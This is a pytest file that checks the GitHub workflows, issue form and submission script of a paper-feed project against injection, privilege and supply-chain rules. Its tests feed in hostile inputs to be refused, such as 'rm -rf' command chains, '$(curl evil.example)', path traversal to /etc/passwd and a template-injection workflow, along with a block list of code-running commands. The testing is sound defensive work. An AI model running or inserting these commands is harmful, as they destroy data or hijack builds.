"""How papers come in: workflows, issue form and its script, pre-commit hook, contributing guide.

Workflows only run on GitHub, so they are checked here by what can be checked offline:
GitHub's schemas (check-jsonschema), a security linter (zizmor), and the rules this
project keeps: nothing granted by default, no issue text in a shell script, every action
pinned to a commit, every install hash-checked against a lock, and no write token in a
job that runs code from a package or from the repository. The shell of the job that
holds the token is run here too, against a stand-in for `gh`.
"""

from __future__ import annotations

import importlib
import json
import os
import re
import shlex
import subprocess
import sys
from importlib.metadata import entry_points
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import yaml
from packaging.requirements import Requirement

from conftest import entry, write_entry
from paperfeed.load import load_papers
from paperfeed.scaffold import Feed, plan

REPO = Path(__file__).resolve().parent.parent
GITHUB = REPO / ".github"
WORKFLOWS = sorted((GITHUB / "workflows").glob("*.yml"))
ISSUE_FORM = GITHUB / "ISSUE_TEMPLATE" / "submit-paper.yml"
BIN = Path(sys.executable).parent
STARTER = REPO / "src" / "paperfeed" / "starter"
STARTER_WORKFLOWS = sorted((STARTER / "github" / "workflows").glob("*.yml"))
# This repository's workflows install paperfeed from the checkout and its lock from the
# package's copy; a feed's, from its own files. Otherwise they are the same.
LOCK = "src/paperfeed/starter/requirements.txt"
BUILD_LOCK = "src/paperfeed/starter/requirements-build.txt"
FROM_CHECKOUT = {
    "-r requirements-build.txt": f"-r {BUILD_LOCK}",
    "--no-build-isolation -r requirements.txt": f"--no-build-isolation -r {LOCK}",
    "--no-deps --no-build-isolation -r requirements.in": "--no-deps --no-build-isolation -e .",
    "cache-dependency-path: requirements.txt": f"cache-dependency-path: {LOCK}",
}


def check_jsonschema(schema: str, *paths: Path) -> subprocess.CompletedProcess[str]:
    """GitHub's schema for `schema`, from the copy check-jsonschema ships: no network."""
    return subprocess.run(
        [str(BIN / "check-jsonschema"), "--builtin-schema", schema, *map(str, paths)],
        capture_output=True,
        text=True,
        timeout=120,
    )


def zizmor(github_dir: Path) -> tuple[list[dict[str, Any]], str]:
    """zizmor's findings on a .github folder (pedantic persona), and its log."""
    result = subprocess.run(
        [
            str(BIN / "zizmor"),
            "--offline",
            "--persona",
            "pedantic",
            "--format",
            "json",
            "--no-exit-codes",
            str(github_dir),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout), result.stderr


def serious(findings: list[dict[str, Any]]) -> list[str]:
    """Findings of medium or high severity, as 'audit: file' lines for a readable failure."""
    return [
        f"{f['ident']}: {f['locations'][0]['symbolic']['key']}"
        for f in findings
        if f["determinations"]["severity"] in ("Medium", "High")
    ]


def load(path: Path) -> dict[str, Any]:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def triggers(workflow: dict[str, Any]) -> dict[str, Any]:
    # YAML 1.1 reads the key `on` as true.
    on = workflow.get("on", workflow.get(True))
    return {on: None} if isinstance(on, str) else dict(on)


def steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


def all_workflows() -> dict[str, dict[str, Any]]:
    return {path.name: load(path) for path in WORKFLOWS}


# --- the tools, offline ---------------------------------------------------------------


def test_the_workflows_are_the_ones_expected() -> None:
    names = [path.name for path in WORKFLOWS]
    assert names == ["check.yml", "deploy.yml", "digest.yml", "release.yml", "submit-paper.yml"]


def test_workflows_match_githubs_schema() -> None:
    result = check_jsonschema("vendor.github-workflows", *WORKFLOWS)
    assert result.returncode == 0, result.stdout + result.stderr


def test_issue_form_matches_githubs_schema() -> None:
    result = check_jsonschema("vendor.github-issue-forms", ISSUE_FORM)
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_schema_check_catches_a_broken_workflow(tmp_path: Path) -> None:
    broken = tmp_path / "broken.yml"
    broken.write_text("on: push\njobs:\n  a:\n    step:\n      - run: echo\n")
    result = check_jsonschema("vendor.github-workflows", broken)
    assert result.returncode == 1
    assert "runs-on" in result.stdout


def test_zizmor_finds_nothing_of_medium_or_high_severity() -> None:
    findings, log = zizmor(GITHUB)
    for path in WORKFLOWS:
        assert f"completed {path}" in log
    assert serious(findings) == []


def test_zizmor_flags_issue_text_pasted_into_a_script(tmp_path: Path) -> None:
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "bad.yml").write_text(
        "on:\n  issues:\n    types: [opened]\npermissions: {}\njobs:\n  a:\n"
        "    runs-on: ubuntu-latest\n    steps:\n"
        '      - run: echo "${{ github.event.issue.body }}"\n'
    )
    findings, _ = zizmor(tmp_path / ".github")
    assert "template-injection: " in "\n".join(serious(findings))


# --- least privilege and supply chain ---------------------------------------------------


@pytest.mark.parametrize("name", [path.name for path in WORKFLOWS])
def test_nothing_is_granted_by_default(name: str) -> None:
    assert all_workflows()[name]["permissions"] == {}


def test_each_job_gets_only_what_it_uses() -> None:
    granted = {
        (name, job_id): job.get("permissions")
        for name, workflow in all_workflows().items()
        for job_id, job in workflow["jobs"].items()
    }
    assert granted == {
        ("check.yml", "check"): {"contents": "read"},
        ("deploy.yml", "build"): {"contents": "read", "pages": "read"},
        ("deploy.yml", "deploy"): {"pages": "write", "id-token": "write"},
        ("digest.yml", "send"): {"contents": "read"},
        ("release.yml", "build"): {"contents": "read"},
        ("release.yml", "publish"): {"id-token": "write"},
        ("submit-paper.yml", "prepare"): {"contents": "read"},
        ("submit-paper.yml", "publish"): {
            "contents": "write",
            "pull-requests": "write",
            "issues": "write",
        },
    }


def test_no_workflow_runs_on_pull_request_target() -> None:
    for path in WORKFLOWS:
        assert "pull_request_target" not in triggers(load(path))
        assert "pull_request_target" not in path.read_text()


def test_scripts_get_expressions_only_through_env() -> None:
    # An expression in `run:` is pasted into the script before the shell parses it: issue
    # text there would run as code. Through `env:` it stays a variable's value.
    for name, workflow in all_workflows().items():
        for step in steps(workflow):
            assert "${{" not in step.get("run", ""), f"{name}: {step.get('name')}"


def test_every_action_is_pinned_to_a_commit_with_its_version() -> None:
    for path in WORKFLOWS:
        used = [step["uses"] for step in steps(load(path)) if "uses" in step]
        assert used, path.name
        for action in used:
            assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", action), action
        # The version, for people and for update tools, is the comment after the SHA.
        lines = [line for line in path.read_text().splitlines() if "uses:" in line]
        for line in lines:
            assert re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), line
        assert len(lines) == len(used)


def test_checkouts_keep_no_token() -> None:
    checkouts = [
        step
        for workflow in all_workflows().values()
        for step in steps(workflow)
        if step.get("uses", "").startswith("actions/checkout@")
    ]
    assert len(checkouts) == len(WORKFLOWS)
    assert all(step["with"]["persist-credentials"] is False for step in checkouts)


# --- what each workflow does -------------------------------------------------------------


def runs(workflow: dict[str, Any]) -> str:
    return "\n".join(step.get("run", "") for step in steps(workflow))


def uses(workflow: dict[str, Any]) -> list[str]:
    return [step["uses"].split("@")[0] for step in steps(workflow) if "uses" in step]


def test_check_runs_on_pull_requests_the_entry_check_and_a_strict_build() -> None:
    check = all_workflows()["check.yml"]
    assert list(triggers(check)) == ["pull_request"]
    assert "pip install --no-deps --no-build-isolation -e ." in runs(check)
    assert "paperfeed check --format github" in runs(check)
    assert "mkdocs build --strict" in runs(check)


def test_deploy_publishes_main_to_pages_one_run_at_a_time() -> None:
    deploy = all_workflows()["deploy.yml"]
    assert triggers(deploy) == {"push": {"branches": ["main"]}, "workflow_dispatch": None}
    assert deploy["concurrency"] == {"group": "pages", "cancel-in-progress": False}
    assert deploy["jobs"]["deploy"]["environment"]["name"] == "github-pages"
    assert uses(deploy) == [
        "actions/checkout",
        "actions/setup-python",
        "actions/configure-pages",
        "actions/upload-pages-artifact",
        "actions/deploy-pages",
    ]
    assert "--strict" in runs(deploy)


def test_the_pip_cache_is_used_where_no_stranger_can_write_it() -> None:
    # Not by the release: a cache written by other runs must not reach what is published
    # (zizmor: cache-poisoning; tests/test_release.py). Not by the submissions, which
    # anyone starts by opening an issue: a cache they saved on the default branch would
    # be restored by the deploy's build.
    uncached = {"release.yml", "submit-paper.yml"}
    for name, workflow in all_workflows().items():
        setups = [s for s in steps(workflow) if s.get("uses", "").startswith("actions/setup-")]
        wanted = [None] if name in uncached else ["pip"]
        assert [s["with"].get("cache") for s in setups] == wanted, name
        if name not in uncached:
            assert [s["with"]["cache-dependency-path"] for s in setups] == [LOCK], name


def test_submissions_start_only_from_the_forms_label() -> None:
    form, workflow = load(ISSUE_FORM), all_workflows()["submit-paper.yml"]
    assert triggers(workflow) == {"issues": {"types": ["opened"]}}
    (label,) = form["labels"]
    assert (
        workflow["jobs"]["prepare"]["if"]
        == f"contains(github.event.issue.labels.*.name, '{label}')"
    )


def test_submission_hands_issue_text_to_the_script_through_env() -> None:
    workflow = all_workflows()["submit-paper.yml"]
    (read,) = [s for s in steps(workflow) if s.get("id") == "form"]
    assert read["env"] == {"ISSUE_BODY": "${{ github.event.issue.body }}"}
    assert "python -m paperfeed.submission parse" in read["run"]
    assert 'paperfeed add "$ARXIV_ID" --by "$SUBMITTER"' in runs(workflow)


# --- locked installs -----------------------------------------------------------------


def all_starter_workflows() -> dict[str, dict[str, Any]]:
    return {path.name: load(path) for path in STARTER_WORKFLOWS}


def a_feeds_files() -> dict[str, bytes]:
    return plan(Feed("Lab Papers", "https://lab.example.org/", "paperfeed==0.2.0"))


def commands(script: str) -> list[str]:
    """The shell commands of a `run:` script, a continued line joined into one."""
    joined = script.replace("\\\n", " ")
    return [c.strip() for line in joined.splitlines() for c in re.split(r"&&|;|\|\|", line)]


def pip_installs(job: dict[str, Any]) -> list[list[str]]:
    """Each `pip install` of a job, as the words after `install`."""
    found = []
    for step in job.get("steps", []):
        for command in commands(step.get("run", "")):
            if not re.search(r"\bpip3?\"? install\b", command):
                continue
            words = shlex.split(command, comments=True)
            for i in range(len(words) - 1):
                if Path(words[i]).name in ("pip", "pip3") and words[i + 1] == "install":
                    found.append(words[i + 2 :])
    return found


def requirement_files(words: list[str]) -> list[str]:
    return [words[i + 1] for i, word in enumerate(words) if word in ("-r", "--requirement")]


def locked(text: str) -> dict[str, list[tuple[str, str]]]:
    """A lock file's pins: name -> [(version, marker)], each checked to carry hashes."""
    pins: dict[str, list[tuple[str, str]]] = {}
    for line in text.replace("\\\n", " ").splitlines():
        line = line.partition("#")[0].strip() if line.lstrip().startswith("#") else line
        if not line.strip():
            continue
        found = re.fullmatch(
            r"([A-Za-z0-9._-]+)==([^\s;]+)\s*(?:;\s*(.*?))?\s*((?:--hash=sha256:[0-9a-f]{64}\s*)+)",
            line.strip(),
        )
        assert found, f"not a pin with hashes: {line!r}"
        pins.setdefault(found[1].lower(), []).append((found[2], found[3] or ""))
    return pins


def lock_of(name: str, files: dict[str, bytes]) -> dict[str, list[tuple[str, str]]]:
    return locked(files[name].decode("utf-8"))


def check_the_installs(jobs: dict[str, Any], files: dict[str, bytes], project: list[str]) -> int:
    """Every pip install is of hash-checked locks, or of the project alone (no deps).

    `files` holds what `-r` may name; `project` is how the project itself is named.
    Returns how many installs were looked at.
    """
    count = 0
    for job_id, job in jobs.items():
        build_tools = False  # setuptools from its lock, before anything is built with it
        for words in pip_installs(job):
            count += 1
            named = requirement_files(words)
            rest = [w for i, w in enumerate(words) if not w.startswith("-")]
            rest = [w for w in rest if w not in named]
            if "--require-hashes" in words:
                assert named and not rest, (job_id, words)
                for name in named:
                    assert lock_of(name, files), (job_id, name)
            else:
                # the project itself, with no dependency of its own: those come locked
                assert "--no-deps" in words, (job_id, words)
                assert rest + named in ([p] for p in project), (job_id, words)
            if "--no-build-isolation" in words:
                assert build_tools, f"{job_id}: builds before setuptools is installed"
            if any(name.endswith("requirements-build.txt") for name in named):
                build_tools = True
            else:
                # without it pip fetches an unchecked setuptools to build feedgen with
                assert "--no-build-isolation" in words or "--no-deps" in words and rest, words
    return count


def repository_files(*names: str) -> dict[str, bytes]:
    return {name: (REPO / name).read_bytes() for name in names if (REPO / name).is_file()}


def test_every_install_here_is_hash_checked_or_the_project_alone() -> None:
    files = repository_files(LOCK, BUILD_LOCK, "requirements/test.txt", "requirements/release.txt")
    count = 0
    for workflow in all_workflows().values():
        count += check_the_installs(workflow["jobs"], files, ["-e", ".", "$wheel"])
    # check, deploy, digest and submit-paper: 3 each; release: 1 + 3
    assert count == 16


def test_every_install_of_a_feed_is_hash_checked_or_paperfeed_alone() -> None:
    files = a_feeds_files()
    count = 0
    # and the S3 deploy a feed copies in by hand (deploy/deploy-s3.yml): 3 in each job
    optional = [load(REPO / "src" / "paperfeed" / "deploy" / "deploy-s3.yml")]
    for workflow in [*all_starter_workflows().values(), *optional]:
        count += check_the_installs(workflow["jobs"], files, ["requirements.in"])
    assert count == 18
    assert files["requirements.in"].decode().splitlines()[-1] == "paperfeed==0.2.0"


def test_the_install_check_refuses_an_unlocked_install() -> None:
    files = repository_files(LOCK, BUILD_LOCK)
    for script in [
        "pip install -e .",
        "pip install -r src/paperfeed/starter/requirements.txt",
        f"pip install --require-hashes -r {BUILD_LOCK} rich",
        f"pip install --require-hashes -r {BUILD_LOCK}\npip install --no-deps mkdocs",
        f"pip install --require-hashes -r {LOCK}",  # would build feedgen in isolation
        f"pip install --require-hashes --no-build-isolation -r {LOCK}",  # no setuptools yet
        "pip install --require-hashes -r pyproject.toml",
    ]:
        with pytest.raises((AssertionError, KeyError)):
            check_the_installs({"j": {"steps": [{"run": script}]}}, files, ["-e", "."])


def pyproject_requirements(extra: str | None = None) -> list[Requirement]:
    """pyproject.toml's dependencies, or an extra's (tomllib is not in Python 3.10)."""
    text = (REPO / "pyproject.toml").read_text(encoding="utf-8")
    head = "dependencies = [" if extra is None else f"{extra} = ["
    block = text.split("\n" + head, 1)[1].split("\n]", 1)[0]
    return [Requirement(r) for r in re.findall(r'^\s*"([^"]+)",?', block, flags=re.MULTILINE)]


@pytest.mark.parametrize(("lock", "extras"), [(LOCK, ()), ("requirements/test.txt", ("test",))])
def test_the_locks_pin_what_pyproject_asks_for(lock: str, extras: tuple[str, ...]) -> None:
    # A dependency added to pyproject.toml without `requirements/lock` run fails here.
    pins = locked((REPO / lock).read_text(encoding="utf-8"))
    wanted = pyproject_requirements() + [r for e in extras for r in pyproject_requirements(e)]
    for requirement in wanted:
        name = re.sub(r"[._]", "-", requirement.name.lower())
        assert name in pins, f"{lock} lacks {requirement}: run requirements/lock"
        for version, _ in pins[name]:
            assert requirement.specifier.contains(version, prereleases=True), (lock, name)


def test_the_test_lock_has_the_versions_a_feed_runs() -> None:
    runtime = locked((REPO / LOCK).read_text(encoding="utf-8"))
    test = locked((REPO / "requirements/test.txt").read_text(encoding="utf-8"))
    for name, pins in runtime.items():
        assert {v for v, _ in test[name]} == {v for v, _ in pins}, name


def test_the_lock_a_feed_gets_is_the_one_tested_here() -> None:
    files = a_feeds_files()
    assert files["requirements.txt"] == (REPO / LOCK).read_bytes()
    assert files["requirements-build.txt"] == (REPO / BUILD_LOCK).read_bytes()
    assert list(lock_of("requirements-build.txt", files)) == ["setuptools"]
    # paperfeed itself is not in it: the workflows install it by its pin, without deps
    assert "paperfeed" not in lock_of("requirements.txt", files)


@pytest.mark.parametrize(
    "path", [GITHUB / "dependabot.yml", STARTER / "github" / "dependabot.yml"], ids=str
)
def test_dependabot_moves_the_locks_and_the_actions_weekly_in_groups(path: Path) -> None:
    result = check_jsonschema("vendor.dependabot", path)
    assert result.returncode == 0, result.stdout + result.stderr
    config = load(path)
    updates = {u["package-ecosystem"]: u for u in config["updates"]}
    assert sorted(updates) == ["github-actions", "pip"]
    for update in updates.values():
        assert update["directory"] == "/"
        assert update["schedule"]["interval"] == "weekly"
        assert [g["patterns"] for g in update["groups"].values()] == [["*"]]
        assert update["cooldown"]["default-days"] >= 7


def test_a_feeds_workflows_are_this_repositorys_but_for_the_install() -> None:
    for path in STARTER_WORKFLOWS:
        text = path.read_text(encoding="utf-8")
        for feeds, here in FROM_CHECKOUT.items():
            text = text.replace(feeds, here)
        assert (GITHUB / "workflows" / path.name).read_text(encoding="utf-8") == text, path.name


# --- the submission's two jobs -------------------------------------------------------

# Names of commands that would install something or run code from the repository or a
# package: none may appear in the job that holds the write token.
RUNS_CODE = re.compile(
    r"\b(pip3?|python3?|paperfeed|mkdocs|uvx?|pipx|npm|npx|node|make|bash|sh|source|eval)\b"
    r"|(^|[\s;&|(])\./|GITHUB_WORKSPACE|\.github/"
)


@pytest.mark.parametrize("where", ["repository", "starter"])
def test_the_job_with_the_write_token_installs_and_runs_nothing(where: str) -> None:
    workflows = all_workflows() if where == "repository" else all_starter_workflows()
    publish = workflows["submit-paper.yml"]["jobs"]["publish"]
    assert set(publish["permissions"].values()) == {"write"}
    used = [s["uses"].split("@")[0] for s in publish["steps"] if "uses" in s]
    assert used == ["actions/download-artifact"]  # no checkout, no setup of a language
    for step in publish["steps"]:
        assert not RUNS_CODE.search(step.get("run", "")), step.get("name")
        assert "shell" not in step and "working-directory" not in step
    assert "defaults" not in publish and "container" not in publish and "services" not in publish


def test_the_code_check_would_see_an_install_in_the_write_job() -> None:
    for script in [
        "pip install x",
        "python -m paperfeed.submission parse",
        "./run.sh",
        "paperfeed check",
        "mkdocs build",
        "bash scripts/x",
    ]:
        assert RUNS_CODE.search(script), script


@pytest.mark.parametrize("where", ["repository", "starter"])
def test_the_job_that_runs_code_may_only_read(where: str) -> None:
    workflows = all_workflows() if where == "repository" else all_starter_workflows()
    flow = workflows["submit-paper.yml"]
    prepare = flow["jobs"]["prepare"]
    assert set(prepare["permissions"].values()) == {"read"}
    text = yaml.safe_dump(prepare)
    assert "github.token" not in text and "secrets." not in text and "GH_TOKEN" not in text
    # It hands on an artifact, which the write job fetches by name, and nothing else.
    assert "outputs" not in prepare
    (upload,) = [s for s in prepare["steps"] if "upload-artifact" in s.get("uses", "")]
    (download,) = [s for s in flow["jobs"]["publish"]["steps"] if "uses" in s]
    assert upload["with"]["name"] == download["with"]["name"] == "submission"
    assert upload["with"]["path"] == "${{ runner.temp }}/submission/"
    assert upload["if"] == "always()"  # a failure's report reaches the submitter too
    assert flow["jobs"]["publish"]["needs"] == "prepare"


def test_the_submission_shares_no_cache_with_the_deploy() -> None:
    for workflows in (all_workflows(), all_starter_workflows()):
        text = yaml.safe_dump(workflows["submit-paper.yml"])
        assert "cache" not in text
        for step in steps(workflows["submit-paper.yml"]):
            assert not step.get("uses", "").startswith("actions/cache")


def step_named(job: dict[str, Any], start: str) -> dict[str, Any]:
    (step,) = [s for s in job["steps"] if s.get("name", "").startswith(start)]
    return step


def publish_job() -> dict[str, Any]:
    return load(STARTER / "github" / "workflows" / "submit-paper.yml")["jobs"]["publish"]


class Runner:
    """A step's script run as GitHub runs it (bash -e -o pipefail), `gh` a stand-in.

    The stand-in answers `gh api` from `responses` (applying --jq with the real jq)
    and records every call; what it does not know it answers as GitHub's 404.
    """

    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.temp = tmp / "runner-temp"
        (self.temp / "submission").mkdir(parents=True)
        self.calls = tmp / "calls.jsonl"
        self.responses: dict[str, Any] = {}
        bin_dir = tmp / "bin"
        bin_dir.mkdir()
        gh = bin_dir / "gh"
        gh.write_text(f"#!{sys.executable}\n" + FAKE_GH, encoding="utf-8")
        gh.chmod(0o755)
        self.path = f"{bin_dir}:{os.environ['PATH']}"

    def entry(self, path: str, text: str = "id: x\n") -> None:
        target = self.temp / "submission" / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")

    def run(self, step: dict[str, Any], **env: str) -> tuple[int, dict[str, str]]:
        job_env = {
            "GH_REPO": "owner/feed",
            "ISSUE": "12",
            "SUBMITTER": "Alice",
            "RUN_URL": "https://github.com/owner/feed/actions/runs/1",
            "GH_TOKEN": "not-a-token",
        }
        assert set(step.get("env", {})) <= set(env), "the test must set every env of the step"
        (self.tmp / "responses.json").write_text(json.dumps(self.responses), encoding="utf-8")
        output = self.tmp / "output.txt"
        output.write_text("")
        result = subprocess.run(
            ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", "-c", step["run"]],
            env={
                "PATH": self.path,
                "RUNNER_TEMP": str(self.temp),
                "GITHUB_OUTPUT": str(output),
                "FAKE_GH_RESPONSES": str(self.tmp / "responses.json"),
                "FAKE_GH_CALLS": str(self.calls),
                **job_env,
                **env,
            },
            capture_output=True,
            text=True,
            timeout=60,
        )
        outputs = dict(
            line.split("=", 1) for line in output.read_text().splitlines() if "=" in line
        )
        return result.returncode, outputs

    def gh_calls(self) -> list[list[str]]:
        if not self.calls.exists():
            return []
        return [json.loads(line) for line in self.calls.read_text().splitlines()]


FAKE_GH = r"""
import json, os, subprocess, sys

args = sys.argv[1:]
with open(os.environ["FAKE_GH_CALLS"], "a") as log:
    log.write(json.dumps(args) + "\n")
if args[0] != "api":
    sys.exit(0)
method, path, jq, silent, i = "GET", None, None, False, 1
while i < len(args):
    if args[i] == "--method":
        method, i = args[i + 1], i + 2
    elif args[i] == "--jq":
        jq, i = args[i + 1], i + 2
    elif args[i] in ("-f", "-F"):
        i += 2
    elif args[i] in ("--silent", "--paginate"):
        silent, i = silent or args[i] == "--silent", i + 1
    else:
        path, i = args[i], i + 1
responses = json.load(open(os.environ["FAKE_GH_RESPONSES"]))
key = f"{method} {path}"
if key not in responses:
    if method == "GET":
        print("gh: Not Found (HTTP 404)", file=sys.stderr)
        sys.exit(1)
    responses[key] = {}
body = json.dumps(responses[key])
if jq is not None:
    sys.stdout.write(subprocess.run(["jq", "-r", jq], input=body, text=True,
                                    capture_output=True, check=True).stdout)
elif not silent:
    print(body)
"""


@pytest.mark.parametrize(
    "files",
    [
        {"papers/2024/11/2401.10210.yaml": "id: x\n", "report.txt": ""},
        {"papers/2024/11/hep-th-9901001.yaml": "id: x\n"},
    ],
)
def test_the_write_job_takes_one_entry_file(tmp_path: Path, files: dict[str, str]) -> None:
    runner = Runner(tmp_path)
    for path, text in files.items():
        runner.entry(path, text)
    status, outputs = runner.run(step_named(publish_job(), "Check the entry file"))
    assert status == 0
    (entry,) = [p for p in files if p.startswith("papers/")]
    assert outputs == {"path": entry, "id": Path(entry).stem}


@pytest.mark.parametrize(
    "files",
    [
        {},
        {"papers/2024/11/a.yaml": "", "papers/2024/11/b.yaml": ""},
        {"papers/2024/11/a.yaml": "", ".github/workflows/x.yml": ""},
        {"mkdocs.yml": ""},
        {"papers/2024/11/A.yaml": ""},
        {"papers/2024/11/a..b.yaml": ""},
        {"papers/2024/11/x.lock.yaml": ""},  # git takes no branch named *.lock
        {"papers/a.yaml": ""},
        {"papers/2024/11/a.yml": ""},
        {"papers/2024/11/a.yaml": "x" * 70000},
        {"papers/2024/11/-a.yaml": ""},
    ],
)
def test_the_write_job_refuses_anything_else(tmp_path: Path, files: dict[str, str]) -> None:
    runner = Runner(tmp_path)
    for path, text in files.items():
        runner.entry(path, text)
    status, outputs = runner.run(step_named(publish_job(), "Check the entry file"))
    assert status != 0 and outputs == {}


def test_the_write_job_refuses_a_link(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    folder = runner.temp / "submission" / "papers" / "2024" / "11"
    folder.mkdir(parents=True)
    (folder / "a.yaml").symlink_to("/etc/passwd")
    status, outputs = runner.run(step_named(publish_job(), "Check the entry file"))
    assert status != 0 and outputs == {}


def gate(runner: Runner, association: str = "NONE", max_open: str = "3") -> dict[str, str]:
    status, outputs = runner.run(
        step_named(publish_job(), "Link the open pull request"),
        ID="2401.10210",
        OWNER="owner",
        ASSOCIATION=association,
        MAX_OPEN=max_open,
    )
    assert status == 0
    return outputs


OPEN_FOR_THE_PAPER = "GET repos/owner/feed/pulls?state=open&head=owner:paper-submission/2401.10210"
ALL_OPEN = "GET repos/owner/feed/pulls?state=open&per_page=100"


def submission_pr(number: int, login: str) -> dict[str, Any]:
    return {
        "number": number,
        "head": {"ref": f"paper-submission/{number}"},
        "body": f"Adds ...\n\n<!-- submitted-by: @{login} -->\n",
    }


def test_a_second_issue_for_the_same_paper_gets_the_open_pull_request(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    runner.responses[OPEN_FOR_THE_PAPER] = [{"html_url": "https://github.com/owner/feed/pull/7"}]
    assert gate(runner)["go"] == "false"
    calls = runner.gh_calls()
    (comment,) = [c for c in calls if c[:2] == ["issue", "comment"]]
    assert "https://github.com/owner/feed/pull/7" in comment[comment.index("--body") + 1]
    assert ["issue", "close", "12", "--reason", "not planned"] in calls


def test_a_new_paper_goes_on_under_the_cap(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    runner.responses[OPEN_FOR_THE_PAPER] = []
    runner.responses[ALL_OPEN] = [submission_pr(1, "alice"), submission_pr(2, "bob")]
    assert gate(runner) == {"branch": "paper-submission/2401.10210", "go": "true"}
    assert not [c for c in runner.gh_calls() if c[0] == "issue"]


def test_the_cap_counts_the_submitters_open_pull_requests(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    runner.responses[OPEN_FOR_THE_PAPER] = []
    other = {"number": 9, "head": {"ref": "fix-typo"}, "body": "<!-- submitted-by: @alice -->"}
    runner.responses[ALL_OPEN] = [submission_pr(1, "alice"), submission_pr(2, "ALICE"), other]
    assert gate(runner, max_open="3")["go"] == "true"
    assert gate(runner, max_open="2")["go"] == "false"
    (comment,) = [c for c in runner.gh_calls() if c[:2] == ["issue", "comment"]]
    assert "You have 2 submissions waiting" in comment[comment.index("--body") + 1]
    # the repository's own people have no cap
    assert gate(runner, association="MEMBER", max_open="0")["go"] == "true"


def test_a_cap_that_is_not_a_number_stops_the_job(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    runner.responses[OPEN_FOR_THE_PAPER] = []
    status, _ = runner.run(
        step_named(publish_job(), "Link the open pull request"),
        ID="2401.10210",
        OWNER="owner",
        ASSOCIATION="NONE",
        MAX_OPEN="3; rm -rf /",
    )
    assert status != 0


def test_the_entry_is_committed_on_its_branch_and_the_pull_request_opened(
    tmp_path: Path,
) -> None:
    runner = Runner(tmp_path)
    runner.entry("papers/2024/11/2401.10210.yaml", "id: '2401.10210'\n")
    runner.responses["GET repos/owner/feed/git/ref/heads/main"] = {"object": {"sha": "abc123"}}
    runner.responses["POST repos/owner/feed/pulls"] = {"html_url": "https://x/pull/8"}
    status, _ = runner.run(
        step_named(publish_job(), "Commit the entry"),
        ENTRY="papers/2024/11/2401.10210.yaml",
        ID="2401.10210",
        BRANCH="paper-submission/2401.10210",
        BASE="main",
    )
    assert status == 0
    calls = runner.gh_calls()
    writes = [c for c in calls if "--method" in c]
    assert [c[c.index("--method") + 1 : c.index("--method") + 3] for c in writes] == [
        ["POST", "repos/owner/feed/git/refs"],
        ["PUT", "repos/owner/feed/contents/papers/2024/11/2401.10210.yaml"],
        ["POST", "repos/owner/feed/pulls"],
    ]
    assert "ref=refs/heads/paper-submission/2401.10210" in writes[0]
    assert "branch=paper-submission/2401.10210" in writes[1]
    body = (runner.temp / "body.md").read_text()
    assert "Closes #12" in body and "<!-- submitted-by: @Alice -->" in body
    assert (runner.temp / "entry.b64").read_text() == "aWQ6ICcyNDAxLjEwMjEwJwo="
    (comment,) = [c for c in calls if c[:2] == ["issue", "comment"]]
    assert "https://x/pull/8" in comment[-1]


def test_the_report_is_posted_as_text_that_cannot_close_its_block(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    (runner.temp / "submission" / "report.txt").write_text(
        "The arXiv id field is bad.\n~~~~\n<img src=x> @everyone\n"
    )
    status, _ = runner.run(step_named(publish_job(), "Tell the submitter"))
    assert status == 0
    comment = (runner.temp / "comment.md").read_text()
    block = comment.split("~~~~text\n", 1)[1].split("\n~~~~\n", 1)[0]
    assert "The arXiv id field is bad." in block and "<img src=x>" in block
    assert "~" not in block


# --- the script that reads the issue form ----------------------------------------------


@pytest.fixture(scope="module")
def submission() -> ModuleType:
    return importlib.import_module("paperfeed.submission")


def form_body(arxiv: str, code: str = "_No response_", tags: str = "_No response_") -> str:
    """An issue body as GitHub writes it for the form: a heading per field."""
    return (
        f"### arXiv id or URL\r\n\r\n{arxiv}\r\n\r\n### Code\r\n\r\n{code}\r\n\r\n"
        f"### Tags\r\n\r\n{tags}"
    )


def test_the_script_reads_the_fields_the_form_has(submission: ModuleType) -> None:
    fields = {item["attributes"]["label"]: item for item in load(ISSUE_FORM)["body"][1:]}
    assert list(fields) == [submission.ARXIV_LABEL, submission.CODE_LABEL, submission.TAGS_LABEL]
    assert fields[submission.ARXIV_LABEL]["validations"]["required"] is True


def test_read_form_gives_each_answer_by_label(submission: ModuleType) -> None:
    body = form_body("2401.10210", tags="a, b\r\nc")
    assert submission.read_form(body) == {
        "arXiv id or URL": "2401.10210",
        "Code": "",
        "Tags": "a, b\nc",
    }


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("2401.10210", "2401.10210"),
        ("  2401.10210v3 ", "2401.10210"),
        ("arXiv:1312.5602", "1312.5602"),
        ("https://arxiv.org/abs/2401.10210v2", "2401.10210"),
        ("https://arxiv.org/pdf/2401.10210.pdf", "2401.10210"),
        ("http://export.arxiv.org/abs/hep-th/9901001", "hep-th/9901001"),
        ("math.GT/0309136v1", "math.GT/0309136"),
    ],
)
def test_arxiv_id_accepts_ids_and_links(submission: ModuleType, text: str, wanted: str) -> None:
    assert submission.arxiv_id(text) == wanted


@pytest.mark.parametrize(
    "text",
    [
        "",
        "2401.102",
        "2401.10210; rm -rf ~",
        "$(curl evil.example)",
        "2401.10210\narxiv=1312.5602",
        "2401.10210 1312.5602",
        "https://evil.example/abs/2401.10210",
        "https://arxiv.org/abs/2401.10210?x=1",
        "../../etc/passwd",
        "2401.10210" + "0" * 300,
    ],
)
def test_arxiv_id_refuses_anything_else(submission: ModuleType, text: str) -> None:
    with pytest.raises(submission.SubmissionError):
        submission.arxiv_id(text)


